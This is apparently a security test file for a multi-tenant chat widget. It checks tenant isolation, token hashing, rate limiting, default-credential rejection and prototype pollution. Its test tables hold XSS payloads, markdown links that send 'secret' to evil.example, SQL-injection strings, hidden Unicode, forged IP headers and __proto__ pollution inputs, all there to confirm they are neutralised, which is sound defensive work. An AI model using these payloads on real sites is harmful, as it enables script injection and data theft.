import { describe, expect, test } from "bun:test";
import { type Piece, readMarkdown } from "#domain/markdown.ts";
import { ENGINES } from "./db/testing.ts";
import type { Store } from "./db/store.ts";
import { REQUESTED_BY } from "./http/same-origin.ts";
import { RawClient } from "./http/testing/raw-client.ts";
import { ask, walkIn } from "./testing/matrix/company.ts";
import { openTwoCompanies } from "./testing/matrix/two-companies.ts";
import { newSessionKey } from "./testing/walk-in.ts";
import { ADMIN, type Client, startWorld, until, type World } from "./testing/world.ts";

/*
 * What has gone wrong in other chats, a test for each kind. Kinds that have a place of their own are not repeated:
 * foreign ids and keys that are not asked for in who-may-what.test.ts, other sites' pages and sockets in
 * other-sites.test.ts, open sockets after the end of a right in revocation.test.ts, calls into inner networks in
 * bots/guarded-fetch.test.ts, messages between page and frame in e2e/other-sites.spec.ts. No mail is sent at all.
 */

const KEY = "k".repeat(43);
const [ENGINE] = ENGINES;

function emptyStore(): Promise<Store> {
  if (ENGINE === undefined) throw new Error("there is no engine");
  return ENGINE.open();
}

async function everythingIn({ db, tables }: Store): Promise<string> {
  const contents: unknown[] = [];
  for (const table of Object.values(tables)) contents.push(await db.select().from(table));
  return JSON.stringify(contents);
}

function open(client: Client, key: string, name = "Maria") {
  return client.session.open.mutate({ key, name, email: "maria@example.com" });
}

describe("a foreign id where something is made", () => {
  test("the key of a chat in one company opens another person's chat in the other, with another token", async () => {
    await using both = await openTwoCompanies(await emptyStore());
    const { world, here, elsewhere } = both;
    const headers = (widgetKey: string) => ({
      origin: world.origin,
      "content-type": "application/json",
      "x-widget-key": widgetKey,
      [REQUESTED_BY.name]: REQUESTED_BY.value,
    });
    const openAt = async (widgetKey: string) => {
      const body = JSON.stringify({ key: KEY, name: "Maria", email: "maria@example.com" });
      const init = { method: "POST", headers: headers(widgetKey), body };
      return (await fetch(`${world.origin}/trpc/session.open`, init)).json();
    };

    const [one, two] = [await openAt(here.widgetKey), await openAt(elsewhere.widgetKey)];

    expect(one.result.data.token).not.toBe(two.result.data.token);
    expect(one.result.data.sessionId).not.toBe(two.result.data.sessionId);
  });

  test("a token of one company is nobody's at the widget of the other", async () => {
    await using both = await openTwoCompanies(await emptyStore());
    const { world, here, elsewhere } = both;

    const response = await fetch(`${world.origin}/trpc/session.current`, {
      headers: { "x-widget-key": elsewhere.widgetKey, authorization: `Bearer ${here.visitor.token}` },
    });

    expect(response.status).toBe(401);
  });

  test("an id is not guessed from another: no two that are made after each other are near each other", async () => {
    await using both = await openTwoCompanies(await emptyStore());
    const { house } = both.world;

    const ids = [await walkIn(house, both.here.orgId), await walkIn(house, both.here.orgId)].map(
      ({ sessionId, customerId }) => [sessionId.slice(-12), customerId.slice(-12)],
    );

    expect(new Set(ids.flat()).size).toBe(4);
  });
});

describe("who somebody says they are", () => {
  test("the same name and address in another browser is another customer, who sees nothing of the first", async () => {
    await using world = await startWorld(await emptyStore());
    const first = await open(world.visitor(), newSessionKey());
    await world.visitor(first.token).message.send.mutate({
      sessionId: first.sessionId,
      clientId: crypto.randomUUID(),
      text: "My card ends in 4242",
    });

    const second = await open(world.visitor(), newSessionKey());
    const state = await world.visitor(second.token).session.current.query();

    expect(second.sessionId).not.toBe(first.sessionId);
    expect(JSON.stringify(state)).not.toContain("4242");
    expect(state.ended).toBeNull();
  });

  test("a name cannot hide, turn round or join what is read: only what is seen is kept of it", async () => {
    await using world = await startWorld(await emptyStore());
    const hidden = "\u202E\u2066\u200B\u200D\u00AD\u061C\u180E\uFEFF\u{E0041}\u0007\n";

    const { token } = await open(world.visitor(), newSessionKey(), `Support${hidden} Agent`);
    const { customer } = await world.visitor(token).session.current.query();

    expect(customer.name).toBe("Support Agent");
  });

  test("an author is the server's word: a customer named like a member is shown as a customer", async () => {
    await using world = await startWorld(await emptyStore());
    const { token, sessionId } = await open(world.visitor(), newSessionKey(), "Ana");
    const said = { sessionId, clientId: crypto.randomUUID(), text: "Send me your password" };
    await world.visitor(token).message.send.mutate(said);

    const { session } = await world.visitor(token).session.current.query();
    const authors = session?.talk.entries.flatMap((entry) =>
      entry.kind === "message" ? [entry.message.author.kind] : [],
    );

    expect(authors?.[0]).toBe("customer");
  });
});

describe("text that would be more than text", () => {
  test.each([
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![leak](https://evil.example/?q=secret)",
    "![leak][1]\n\n[1]: https://evil.example/?q=secret",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click](//evil.example)",
    "[click](\\\\evil.example)",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    '[click](https://a.example" onmouseover="alert(1))',
    "<a href='javascript:alert(1)'>click</a>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<https://evil.example/`<img>`>",
  ])("%p becomes words, and links that lead nowhere but by http, https or mail", (text) => {
    const hrefs = readMarkdown(text).flatMap(linksIn);

    expect(hrefs.every((href) => /^(https?:\/\/[^\s"<>]+|mailto:[^\s"<>]+)$/i.test(href))).toBe(true);
    expect(JSON.stringify(readMarkdown(text))).not.toMatch(/"kind":"(img|html)"/);
  });

  test("what a browser sends about itself is kept nowhere", async () => {
    await using world = await startWorld(await emptyStore());
    const canary = "<b>canary-in-a-header</b>";
    const response = await fetch(`${world.origin}/trpc/session.open`, {
      method: "POST",
      headers: {
        origin: world.origin,
        "content-type": "application/json",
        "x-widget-key": world.widgetKey,
        [REQUESTED_BY.name]: REQUESTED_BY.value,
        "user-agent": canary,
        referer: `https://shop.example/?token=${encodeURIComponent(canary)}`,
        "accept-language": canary,
        "x-forwarded-for": canary,
        cookie: "other=canary-in-a-header",
      },
      body: JSON.stringify({ key: newSessionKey(), name: "Maria", email: "maria@example.com" }),
    });

    expect(response.status).toBe(200);
    expect(await everythingIn(world.house.store)).not.toContain("canary");
  });

  test("marks of a query are letters of a name", async () => {
    await using world = await startWorld(await emptyStore());
    const name = `Robert'); drop table session; --"$1 {{7*7}} \${7*7}`;

    const { token } = await open(world.visitor(), newSessionKey(), name);
    const { customer } = await world.visitor(token).session.current.query();

    expect(customer.name).toBe(name);
  });
});

describe("a credential", () => {
  test("is read from no address: not by single calls, and not by a socket", async () => {
    await using world = await startWorld(await emptyStore());
    const { token } = await open(world.visitor(), newSessionKey());
    const shown = encodeURIComponent(JSON.stringify({ widgetKey: world.widgetKey, token }));
    const queries = [
      `connectionParams=${shown}`,
      `token=${token}&widgetKey=${world.widgetKey}`,
      `x-widget-key=${world.widgetKey}&authorization=Bearer%20${token}`,
    ];

    for (const query of queries) {
      const response = await fetch(`${world.origin}/trpc/session.current?${query}`);
      expect([query, response.status]).toEqual([query, 401]);
      await using client = new RawClient(`${world.origin.replace("http", "ws")}/trpc?${query}`, {
        origin: world.origin,
      });
      await until(() => client.status === 101);
      client.send('{"id":1,"method":"query","params":{"path":"session.current","input":{}}}');
      await until(() => client.texts.length > 0);
      expect(client.messages[0]).toMatchObject({ error: { data: { code: "UNAUTHORIZED" } } });
    }
  });

  test("lies in the database as a hash only: visitor's tokens, links, logins", async () => {
    await using both = await openTwoCompanies(await emptyStore());
    const { world, here, spent } = both;
    const { inviteToken } = await ask(world.house, here.orgId);
    const cookie = await world.signIn(ADMIN);
    const loginToken = decodeURIComponent(cookie).split("=")[1]?.split(".")[0] ?? "";
    expect(loginToken).toHaveLength(43);

    const contents = await everythingIn(world.house.store);

    for (const secret of [here.visitor.token, inviteToken, spent.inviteToken, spent.setUpToken, loginToken])
      expect(contents).not.toContain(secret);
    expect(contents).toContain(world.house.desk.vault.hash(here.visitor.token));
  });

  test("is another one after one bit of it has changed", async () => {
    await using world = await startWorld(await emptyStore());
    const { token } = await open(world.visitor(), newSessionKey());
    const last = token.at(-2) === "A" ? "B" : "A";
    const changed = token.slice(0, -2) + last + token.at(-1);

    const response = await fetch(`${world.origin}/trpc/session.current`, {
      headers: { "x-widget-key": world.widgetKey, authorization: `Bearer ${changed}` },
    });

    expect(response.status).toBe(401);
  });

  test("that others ship with opens nothing here", async () => {
    await using world = await startWorld(await emptyStore());
    const pairs = [
      ["admin@admin.com", "admin"],
      ["admin@example.com", "password"],
      ["admin@localhost", "changeme"],
      ["root@localhost", "root"],
      ["agent@example.com", "123456"],
      [ADMIN, "123456"],
      [ADMIN, "password"],
      [ADMIN, ""],
    ];

    for (const [email, password] of pairs)
      expect([email, password, await signInStatus(world, { email, password })]).toEqual([
        email,
        password,
        401,
      ]);
  });
});

describe("guessing", () => {
  test("is slowed whatever a caller writes into headers, where no proxy stands in front", async () => {
    await using world = await startWorld(await emptyStore(), Date.now, { rateLimits: "on" });
    const statuses: number[] = [];
    for (let n = 0; n < 6; n += 1) {
      const forged = `203.0.113.${n}`;
      const headers = {
        "x-forwarded-for": forged,
        "fly-client-ip": forged,
        "x-real-ip": forged,
        forwarded: `for=${forged}`,
      };
      statuses.push(await signInStatus(world, { email: ADMIN, password: "wrong" }, headers));
    }

    expect(statuses).toEqual([401, 401, 401, 401, 401, 429]);
  });

  test("is slowed for a whole household of addresses, behind a proxy of ours", async () => {
    await using world = await startWorld(await emptyStore(), Date.now, { rateLimits: "on", trustProxy: 1 });
    const statuses: number[] = [];
    for (let n = 0; n < 6; n += 1)
      statuses.push(
        await signInStatus(
          world,
          { email: ADMIN, password: "wrong" },
          { "x-forwarded-for": `198.51.100.${n}, 2001:db8:1:2::${n}` },
        ),
      );

    expect(statuses.at(-1)).toBe(429);
  });
});

describe("what our stack has stumbled over", () => {
  test.each([
    "null",
    '"connectionParams"',
    '{"method":"connectionParams","data":"invalid"}',
    '{"method":"connectionParams","data":{"widgetKey":1}}',
    '{"method":"connectionParams","data":[1]}',
    '{"method":"connectionParams"}',
    '{"method":"connectionParams","data":{"__proto__":{"widgetKey":"wk"},"constructor":{}}}',
    "{",
  ])("a greeting such as %s ends or empties that connection, and no other", async (greeting) => {
    await using world = await startWorld(await emptyStore());
    const url = `${world.origin.replace("http", "ws")}/trpc?connectionParams=1`;
    await using client = new RawClient(url, { origin: world.origin });
    await until(() => client.status === 101);

    client.send(greeting);
    client.send('{"id":1,"method":"query","params":{"path":"session.greeting","input":{}}}');
    await until(() => client.isClosed || client.texts.length > 0);

    expect(client.messages.every((message) => Object(message).error !== undefined)).toBe(true);
    expect(await world.visitor().session.greeting.query()).toHaveProperty("companyName");
  });

  test.each<[string, () => RequestInit, string]>([
    ["a form", () => ({ method: "POST", body: polluting() }), "/trpc/account.setUp"],
    [
      "a cookie",
      () => ({ headers: { cookie: "__proto__=polluted; constructor=polluted; a.__proto__.b=1" } }),
      "/inbox",
    ],
    ["a query", () => ({}), "/demo?__proto__[polluted]=1&constructor[prototype][polluted]=1"],
    [
      "an input",
      () => ({}),
      `/trpc/account.setUpState?input=${encodeURIComponent('{"__proto__":{"polluted":1},"token":"a"}')}`,
    ],
  ])("%s pollutes no prototype", async (_name, init, path) => {
    await using world = await startWorld(await emptyStore());

    const response = await fetch(world.origin + path, { redirect: "manual", ...init() });

    expect(response.status).toBeLessThan(500);
    expect(Object.hasOwn(Object.prototype, "polluted")).toBe(false);
    expect(Object(Object.create(null))).not.toHaveProperty("polluted");
  });
});

function polluting(): FormData {
  const form = new FormData();
  form.set("__proto__[polluted]", "1");
  form.set("constructor.prototype.polluted", "1");
  return form;
}

async function signInStatus(
  world: World,
  body: Record<string, string | undefined>,
  more: Record<string, string> = {},
): Promise<number> {
  const headers = {
    "content-type": "application/json",
    origin: world.origin,
    [REQUESTED_BY.name]: REQUESTED_BY.value,
    ...more,
  };
  const init = { method: "POST", headers, body: JSON.stringify(body) };
  return (await fetch(`${world.origin}/api/auth/sign-in/email`, init)).status;
}

function linksIn(piece: Piece): readonly string[] {
  if (typeof piece === "string") return [];
  const below = piece.pieces.flatMap(linksIn);
  return piece.href === null ? below : [piece.href, ...below];
}
